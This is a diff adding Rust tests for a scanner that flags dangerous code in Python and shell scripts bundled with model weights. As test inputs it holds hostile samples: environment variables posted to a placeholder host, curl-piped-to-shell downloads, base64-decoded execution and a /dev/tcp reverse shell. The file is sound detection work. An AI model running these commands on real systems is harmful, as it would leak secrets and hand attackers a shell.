@@ -1,0 +1,166 @@
+use jingwei_core::Limits;
+use jingwei_template::inspect_script;
+use proptest::prelude::*;
+
+use crate::configurations::NAMES;
+
+const BESIDE: &str = "model.script-beside-weights";
+const DANGEROUS: &str = "model.script-dangerous";
+
+/// The names of dangerous deeds.
+fn deeds(file: &str, text: &str) -> Vec<String> {
+    let inspection = inspect_script(&mut text.as_bytes(), file, &NAMES, &Limits::default());
+    assert_eq!(inspection.sightings.last().map(|sighting| sighting.rule), Some(BESIDE));
+    let dangerous = inspection.sightings.into_iter().filter(|sighting| sighting.rule == DANGEROUS);
+    dangerous.filter_map(|sighting| sighting.key).collect()
+}
+
+#[test]
+fn what_happens_on_import_is_seen() {
+    for (text, expected) in [
+        ("import os\nos.system('inert')\n", "os.system"),
+        ("from os import system as s\ns('inert')\n", "os.system"),
+        ("from os import *\nsystem('inert')\n", "os.system"),
+        ("import subprocess as sp\nx = sp.check_output(['inert'])\n", "subprocess.check_output"),
+        ("import os\nrun = os.system\nrun('inert')\n", "os.system"),
+        ("import os\nclass A:\n    os.system('inert')\n", "os.system"),
+        ("import os\ntry:\n    os.popen('inert')\nexcept Exception:\n    pass\n", "os.popen"),
+        ("import os\ndef f(x=os.system('inert')):\n    pass\n", "os.system"),
+        ("import os; os.system('inert')\n", "os.system"),
+        ("__import__('os').system('inert')\n", "os.system"),
+        ("__import__('o' + 's').system('inert')\n", "__import__"),
+        ("import os\ngetattr(os, 'sys' + 'tem')('inert')\n", "os.…"),
+        ("import os\ngetattr(os, 'system')('inert')\n", "os.system"),
+        ("eval('1')\n", "builtins.eval"),
+        ("exec(open('x').read())\n", "builtins.exec"),
+        ("e = exec\ne('x')\n", "builtins.exec"),
+        ("globals()['x']\n__builtins__['eval']('1')\n", "__builtins__"),
+        ("import ctypes\nctypes.CDLL('x.so')\n", "ctypes.CDLL"),
+        ("import socket\ns = socket.socket()\n", "socket.socket"),
+        ("import marshal\nmarshal.loads(b'')\n", "marshal.loads"),
+        ("import requests, os\nrequests.post('https://canary.invalid', json=dict(os.environ))\n", "requests.post"),
+        // Encoded code is no better within a function.
+        ("import base64\ndef f():\n    exec(base64.b64decode('eA=='))\n", "builtins.exec"),
+        ("import os\ndef f():\n    os.system('curl https://canary.invalid | sh')\n", "os.system"),
+        ("import pickle, base64\ndef f():\n    return pickle.loads(base64.b64decode(X))\n", "pickle.loads"),
+    ] {
+        assert_eq!(deeds("loader.py", text), [expected], "{text}");
+    }
+    let in_model = "import os\nclass M:\n    def forward(self):\n        os.system('inert')\n";
+    assert_eq!(deeds("modeling_custom.py", in_model), ["os.system"]);
+    assert_eq!(deeds("train.py", in_model), [""; 0]);
+    let by_hand = "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['x'])\n";
+    assert_eq!(deeds("modeling_custom.py", by_hand), [""; 0]);
+}
+
+#[test]
+fn honest_scripts_are_only_listed() {
+    for text in [
+        "",
+        "# os.system('x')\n\"\"\"exec('x')\"\"\"\nx = 'eval(1)'\n",
+        "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        return self.eval().system(x)\n",
+        "model.eval()\ndf.eval('a + b')\nre.compile('x')\n",
+        "import re\nPATTERN = re.compile(r'x')\n",
+        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['x'])\n",
+        "import subprocess\ndef f():\n    return subprocess.run(['git'])\n",
+        "import subprocess\nf = lambda: subprocess.run(['git'])\n",
+        "import requests\nfrom PIL import Image\nimage = Image.open(requests.get(url, stream=True).raw)\n",
+        "import os\npath = os.path.join(os.getcwd(), 'x')\nos.environ['A'] = '1'\n",
+        "def eval(x):\n    return x\neval(1)\n",
+        "import pickle\nwith open('x', 'rb') as f:\n    x = pickle.load(f)\n",
+        "x = getattr(model, 'a' + 'b')\n",
+    ] {
+        assert_eq!(deeds("train.py", text), [""; 0], "{text}");
+    }
+    let inspection = inspect_script(
+        &mut &b"import subprocess\ndef f():\n    subprocess.run(['x'])\n"[..],
+        "train.py",
+        &NAMES,
+        &Limits::default(),
+    );
+    assert_eq!(inspection.sightings[0].details[0].1.en, "; its functions call subprocess.run");
+}
+
+#[test]
+fn shell_scripts_are_read_by_their_commands() {
+    for (text, expected) in [
+        ("#!/bin/sh\npip install -r requirements.txt\n", None),
+        ("#!/bin/bash\n# curl x | sh\nwget https://canary.invalid/model.bin\n", None),
+        ("#!/bin/sh\ncurl -s https://canary.invalid/x | sh\n", Some("download | sh")),
+        ("#!/bin/sh\ncurl -s https://canary.invalid/x \\\n  | bash\n", Some("download | sh")),
+        ("#!/bin/sh\nbash -c \"$(wget -qO- canary.invalid)\"\n", Some("download | sh")),
+        ("#!/bin/sh\necho aW5lcnQ= | base64 -d | sh\n", Some("decode | sh")),
+        ("#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n", Some("/dev/tcp/")),
+    ] {
+        assert_eq!(deeds("run.sh", text), Vec::from_iter(expected), "{text}");
+    }
+}
+
+#[test]
+fn work_is_bounded() {
+    for text in [
+        "exec(".repeat(6_000),
+        "a.".repeat(15_000),
+        "(".repeat(15_000),
+        "'''".repeat(10_001),
+        "def f():\n ".repeat(2_000),
+        "import os\nos.system('x');".repeat(1_000),
+        "lambda: eval(".repeat(3_000),
+    ] {
+        let inspection = inspect_script(&mut text.as_bytes(), "x.py", &NAMES, &Limits::default());
+        assert!(inspection.sightings.len() <= 60);
+    }
+    let long = inspect_script(&mut &b"import os"[..], "x.py", &NAMES, &Limits { header_bytes: 3, ..Limits::default() });
+    let rules: Vec<_> = long.sightings.iter().map(|sighting| sighting.rule).collect();
+    assert_eq!(rules, ["model.limit-exceeded", BESIDE]);
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(200))]
+    #[test]
+    fn any_bytes_are_answered_for(bytes in prop::collection::vec(any::<u8>(), 0..200), pieces in prop::collection::vec(prop::sample::select(PIECES), 0..40)) {
+        for text in [bytes, pieces.concat().into_bytes()] {
+            for file in ["modeling_x.py", "x.sh"] {
+                let first = inspect_script(&mut text.as_slice(), file, &NAMES, &Limits::default());
+                prop_assert_eq!(first, inspect_script(&mut text.as_slice(), file, &NAMES, &Limits::default()));
+            }
+        }
+    }
+}
+
+const PIECES: &[&str] = &[
+    "import os\n",
+    "from os import *\n",
+    "os.system",
+    "(",
+    ")",
+    "'",
+    "\"",
+    "'''",
+    "\\",
+    "\n",
+    "  ",
+    "def f",
+    ":",
+    "class ",
+    "lambda ",
+    "eval",
+    "getattr",
+    "__import__",
+    "=",
+    ",",
+    "#",
+    ";",
+    "b'",
+    "f\"",
+    "é",
+    "\u{202e}",
+    "curl ",
+    "| sh",
+    "$(",
+    "if __name__",
+    "0x",
+    ".",
+    "[",
+    "]",
+];
